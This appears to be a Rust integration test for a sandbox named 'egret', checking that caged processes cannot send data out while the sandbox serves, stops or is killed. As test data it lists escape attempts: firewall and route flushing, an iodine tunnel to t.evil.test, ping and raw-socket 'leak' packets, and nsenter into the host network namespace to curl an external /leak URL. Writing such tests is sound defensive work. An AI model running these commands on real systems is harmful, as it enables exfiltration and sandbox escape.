//! The cage in a real kernel: what is allowed arrives, and nothing else leaves the pod, whoever the command becomes.
//!
//! Every escape of the rig runs three ways at once in one cage: as the command itself, as root of a nested user
//! namespace that first tries to take the cage's network apart, and as root of a nested network of its own, where raw
//! sockets may open and lead nowhere. The witnesses stand outside the pod. Root is needed, and the tools of `make test`.

#![expect(
    clippy::unwrap_used,
    reason = "a helper of a test fails as the test does"
)]

#[allow(dead_code, reason = "each file of stories uses its part of the rig")]
mod rig;

use std::fs;
use std::os::unix::fs::chown;
use std::path::Path;
use std::process::Command;

use egret_tests::{Exit, Process, wait_for};
use rig::escapes::{PING_TUNNEL, escapes};
use rig::{AGENT, POLICY, Rig, SERVER, SERVER6};
use rustix::process::Signal;

/// Whose cage it is.
#[derive(Clone, Copy, Debug)]
enum Owner {
    /// A user without any power, whose cage begins with a user namespace.
    Agent,
    /// Root, whose cage has none.
    Root,
}

/// As whom the list runs inside.
const RUNS: [&str; 3] = ["command", "nested-root", "nested-network"];

/// Ports that belong to a proxy outside: here each has a listener of the pod that says when it is reached.
const OUTSIDE_PORTS: [u16; 5] = [3128, 9090, 15000, 15001, 15053];

/// A pod, in which cages of one owner are made.
struct Stage {
    rig: Rig,
    owner: Owner,
    tried: usize,
}

impl Stage {
    fn new(owner: Owner) -> Self {
        let rig = Rig::new(POLICY);
        let state = rig.path("state-cage");
        fs::create_dir(&state).unwrap();
        if let Owner::Agent = owner {
            chown(&state, Some(AGENT), Some(AGENT)).unwrap();
        }
        let config = fs::read_to_string(rig.path("egret.yaml")).unwrap();
        let shared = rig.path("state").display().to_string();
        let caged = config.replace(&shared, &state.display().to_string());
        fs::write(rig.path("cage.yaml"), caged).unwrap();
        rig.copy_program();
        let runner = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/rig/runner.py");
        fs::copy(runner, rig.path("runner.py")).unwrap();
        let list: Vec<String> = escapes()
            .into_iter()
            .chain(raw())
            .chain(inwards())
            .chain(apart())
            .collect();
        fs::write(rig.path("list.json"), serde_json::to_string(&list).unwrap()).unwrap();
        fs::write(rig.path("rounds.sh"), ROUNDS).unwrap();
        let tried = list.len();
        Stage { rig, owner, tried }
    }

    /// The owner in the pod, not caged.
    fn user(&self) -> Command {
        let mut command = self.rig.places.inside("pod");
        if let Owner::Agent = self.owner {
            let agent = AGENT.to_string();
            command.args(["setpriv", "--bounding-set=-all", "--inh-caps=-all"]);
            command.args(["--clear-groups", "--reuid", &agent, "--regid", &agent]);
            command.arg("--");
        }
        command
    }

    /// How the command of a cage becomes root of a namespace. Root without powers may not be mapped to any user: it
    /// keeps the powers over its namespace without being called root.
    fn nested(&self) -> &'static str {
        match self.owner {
            Owner::Agent => "-Ur",
            Owner::Root => "-U --keep-caps",
        }
    }

    /// A command in a cage of the owner.
    fn caged(&self, line: &[&str]) -> Command {
        let mut command = self.user();
        command
            .arg(self.rig.path("egret"))
            .args(["exec", "-q", "-c"]);
        command
            .arg(self.rig.path("cage.yaml"))
            .arg("--")
            .args(line)
            .env("NESTED", self.nested());
        command
    }

    /// Waits until the list has run in all three ways, and checks that all of it has.
    fn finish(&self, cage: &Process, name: &str) {
        cage.line_with(&format!("round {name} is over"));
        let written = cage.written();
        let begin = written.find(&format!("round {name} begins")).unwrap();
        let (tried, said) = (self.tried, &written[begin..]);
        for run in RUNS {
            let all = format!("{run}: tried {tried} of {tried}\n");
            assert!(said.contains(&all), "{name}: {all}{said}");
        }
        assert!(!said.contains("no such tool"), "{said}");
    }

    /// Processes that still have to do with the list.
    fn left_over(&self) -> Vec<String> {
        let word = self.rig.path("list.json").display().to_string();
        let processes = fs::read_dir("/proc").unwrap().filter_map(Result::ok);
        let lines = processes.filter_map(|entry| fs::read(entry.path().join("cmdline")).ok());
        let mut lines: Vec<String> = lines
            .map(|line| String::from_utf8_lossy(&line).into_owned())
            .collect();
        lines.retain(|line| line.contains(&word));
        lines
    }
}

/// Each run has a shell of its own; those of nested root first do what root does. What fails there is meant to.
const ROUNDS: &str = r#"
list=$PWD/list.json runner=$PWD/runner.py
apart='nft flush ruleset; iptables -F; iptables -t nat -F; ip6tables -F; ip6tables -t nat -F
ip route flush table local; ip route del default; ip route add default dev lo; ip -6 route add default dev lo
ip link set lo down; ip link set lo up; ip addr add 10.77.0.2/24 dev lo; ip -6 addr add fd77::2/64 dev lo
ip link add p0 type dummy; ip link add v0 type veth peer name v1 netns 1; ip link add m0 link p0 type macvlan
ip addr add 10.77.0.2/24 dev p0; ip -6 addr add fd77::2/64 dev p0 nodad; ip link set p0 up
ip route add default via 10.77.0.1 dev p0; ip -6 route add default via fd77::1 dev p0
sysctl -q -w net.ipv4.ip_forward=1; umount -l /run; umount -l /tmp; umount -l /proc'
while read -r round; do
  echo "round $round begins"
  /usr/bin/python3 "$runner" command "$list" &
  unshare $NESTED sh -c "{ $apart; } > /dev/null 2>&1; exec /usr/bin/python3 '$runner' nested-root '$list'" &
  unshare $NESTED -nm sh -c "{ $apart; } > /dev/null 2>&1; [ -r '$runner' ] || echo uncovered
    exec /usr/bin/python3 '$runner' nested-network '$list'" &
  wait
  echo "round $round is over"
done
"#;

fn python(script: &str, argument: &str) -> String {
    format!("/usr/bin/python3 -c \"{script}\" {argument}")
}

/// What needs the powers of root in some network: raw sockets, packet sockets, tunnels with devices of their own.
fn raw() -> Vec<String> {
    let raw4 = "import socket,sys\nsocket.socket(2,3,253).sendto(b'leak',(sys.argv[1],0))";
    let raw6 = "import socket,sys\nsocket.socket(10,3,253).sendto(b'leak',(sys.argv[1],0))";
    // An IPv4 datagram of protocol 253 in a frame to everybody, on every interface.
    let packet = "import socket,struct,sys\n\
        head=lambda c: struct.pack('!BBHHHBBH4s4s',69,0,24,1,0,64,253,c,socket.inet_aton('10.77.0.2'),socket.inet_aton(sys.argv[1]))\n\
        total=sum(struct.unpack('!10H',head(0)))\n\
        total=(total&65535)+(total>>16)\n\
        s=socket.socket(17,2)\n\
        for _,name in socket.if_nameindex():\n\
        \x20 try: s.sendto(head(65535-total)+b'leak',(name,2048,0,0,b'\\xff'*6))\n\
        \x20 except OSError: pass";
    vec![
        // It sends once somebody comes to its own port.
        format!(
            "{PING_TUNNEL} & for n in 1 2 3 4 5 6; do echo leak | timeout 1 nc -w1 127.0.0.1 8099; sleep .2; done; wait"
        ),
        "timeout 3 iodine -f -r -P x 8.8.8.8 t.evil.test".to_owned(),
        "ping -c 1 -W 1 -s 1200 -p 6c65616b 93.184.216.34".to_owned(),
        python(raw4, SERVER),
        python(raw6, SERVER6),
        python(packet, SERVER),
    ]
}

/// To the ports of a proxy outside, directly and by way of the proxy inside.
fn inwards() -> Vec<String> {
    let mut lines = Vec::new();
    for port in OUTSIDE_PORTS {
        for address in ["127.0.0.1", "10.77.0.2", "[::1]", "[fd77::2]"] {
            let url = format!("http://{address}:{port}/");
            lines.push(format!("curl -s -m 2 -g --noproxy '*' '{url}'"));
            lines.push(format!("curl -s -m 2 -g -x http://127.0.0.1:3128 '{url}'"));
        }
        for address in ["127.0.0.1", "10.77.0.2", "::1", "fd77::2"] {
            lines.push(format!(
                "echo leak | timeout 1 nc -u -w1 -q0 {address} {port}"
            ));
        }
    }
    lines
}

/// Into other namespaces, and to the hypervisor.
fn apart() -> Vec<String> {
    let vsock = "import socket\ns=socket.socket(40,1)\ns.settimeout(1)\ns.connect((2,1024))";
    let out = "curl -s -m 2 http://93.184.216.99/leak";
    vec![
        python(vsock, ""),
        format!("nsenter -t 1 -n {out}"),
        format!("nsenter -t 1 -a {out}"),
        format!("nsenter --net=/proc/1/ns/net {out}"),
        format!("nsenter --net=/proc/self/root/proc/1/ns/net {out}"),
        format!("ip netns exec world {out}"),
        format!("unshare -Urnm {out}"),
        format!("unshare -Urpf --mount-proc nsenter -t 1 -n {out}"),
        "ip link set p0 netns 1".to_owned(),
    ]
}

/// Says `reached` for everything that comes to a port of the pod itself.
fn listen_in_the_pod(rig: &Rig) -> Process {
    let ports = OUTSIDE_PORTS.map(|port| port.to_string()).join(",");
    let script = format!(
        "import select,socket\nsocks=[]\n\
         for port in ({ports}):\n\
         \x20for kind in (socket.SOCK_STREAM,socket.SOCK_DGRAM):\n\
         \x20 s=socket.socket(socket.AF_INET6,kind)\n\
         \x20 s.setsockopt(41,26,0)\n\
         \x20 s.bind(('::',port))\n\
         \x20 if kind==socket.SOCK_STREAM: s.listen(64)\n\
         \x20 socks.append(s)\n\
         print('listening',flush=True)\n\
         while True:\n\
         \x20for s in select.select(socks,[],[])[0]:\n\
         \x20 (s.accept()[0].close if s.type==socket.SOCK_STREAM else lambda: s.recv(99))()\n\
         \x20 print('reached',s.type.name,s.getsockname()[1],flush=True)"
    );
    let listener = rig
        .places
        .root_process(&["/usr/bin/python3", "-c", &script]);
    listener.line_with("listening");
    listener
}

fn nothing_leaves_a_cage_of(owner: Owner) {
    let stage = Stage::new(owner);
    let mut cage = Process::start("the cage", &mut stage.caged(&["sh", "rounds.sh"]));
    cage.say("serving");
    cage.line_with("round serving begins");
    // A cage has its listeners inside: out here, it has none.
    let listening = stage.rig.places.root(&["ss", "-Hltnu"]);
    assert_eq!(listening.stdout, "", "{listening:?}");
    let pod = listen_in_the_pod(&stage.rig);
    stage.finish(&cage, "serving");
    assert_eq!(stage.rig.witnessed(), 0, "serving: {}", cage.written());
    cage.signal(Signal::STOP);
    cage.say("stopped");
    stage.finish(&cage, "stopped");
    assert_eq!(stage.rig.witnessed(), 0, "stopped: {}", cage.written());
    cage.signal(Signal::CONT);
    cage.say("killed");
    cage.line_with("round killed begins");
    for _ in RUNS {
        cage.line_with("under way");
    }
    cage.signal(Signal::KILL);
    cage.wait();
    wait_for("the end of everything in the cage", || {
        stage.left_over().is_empty().then_some(())
    });
    assert_eq!(stage.rig.witnessed(), 0, "killed: {}", cage.written());
    assert_eq!(pod.written(), "listening\n");
    assert!(!cage.written().contains("uncovered"), "{}", cage.written());
    what_is_allowed_arrives(&stage);
}

/// In a new cage, after all that.
fn what_is_allowed_arrives(stage: &Stage) {
    for family in ["-4", "-6"] {
        let before = stage.rig.witnessed();
        let url = "https://api.example.com/hello";
        let curl = ["curl", "-sS", "-m", "20", family, "--noproxy", "*", url];
        let fetched = Exit::of(&mut stage.caged(&curl));
        assert_eq!(
            fetched.stdout, "the world says: GET /hello HTTP/1.1\n",
            "{fetched:?}"
        );
        assert!(stage.rig.witnessed() > before, "the witnesses see it");
    }
}

#[test]
fn nothing_leaves_the_cage_of_a_user_whether_egret_serves_sleeps_or_is_killed() {
    nothing_leaves_a_cage_of(Owner::Agent);
}

#[test]
fn nothing_leaves_the_cage_of_root_whether_egret_serves_sleeps_or_is_killed() {
    nothing_leaves_a_cage_of(Owner::Root);
}

#[test]
fn without_the_cage_the_same_list_is_seen_and_reaches_the_pod() {
    let stage = Stage::new(Owner::Agent);
    let pod = listen_in_the_pod(&stage.rig);
    let list = stage.rig.path("list.json").display().to_string();
    let mut run = stage.user();
    run.args(["/usr/bin/python3", "runner.py", "direct", &list]);
    let ran = Exit::of(&mut run);
    let all = format!("direct: tried {0} of {0}\n", stage.tried);
    assert!(ran.stdout.ends_with(&all), "{ran:?}");
    let seen = stage.rig.witnessed();
    assert!(seen > 200, "the witnesses and the tools work: {seen}");
    let reached = pod.written();
    for port in OUTSIDE_PORTS {
        for kind in ["STREAM", "DGRAM"] {
            let named = reached
                .lines()
                .any(|line| line.contains(kind) && line.ends_with(&format!(" {port}")));
            assert!(named, "{kind} {port}: {reached}");
        }
    }
    for line in raw() {
        let before = stage.rig.witnessed();
        let tried = stage.rig.places.root(&["sh", "-c", &line]);
        assert!(
            stage.rig.witnessed() > before,
            "`{line}` works for root: {tried:?}"
        );
    }
}

#[test]
fn sockets_that_a_network_namespace_does_not_hold_cannot_be_made() {
    let script = "import errno,socket\n\
        for family,kind in ((40,1),(17,3),(17,2),(2,3),(10,3)):\n\
        \x20try: socket.socket(family,kind,253 if family in (2,10) else 0); print('made')\n\
        \x20except OSError as e: print(errno.errorcode[e.errno])";
    let unsupported = "EAFNOSUPPORT\n".repeat(3);
    for owner in [Owner::Agent, Owner::Root] {
        let stage = Stage::new(owner);
        let runs = [
            ("", "EPERM\nEPERM\n"),
            ("unshare $NESTED", "EPERM\nEPERM\n"),
            // A network of its own, with nothing in it.
            ("unshare $NESTED -n", "made\nmade\n"),
        ];
        for (nested, raw) in runs {
            let line = format!("{nested} /usr/bin/python3 -c \"{script}\"");
            let ran = Exit::of(&mut stage.caged(&["sh", "-c", &line]));
            let expected = format!("{unsupported}{raw}");
            assert_eq!(ran.stdout, expected, "{owner:?} {nested}: {ran:?}");
        }
    }
}
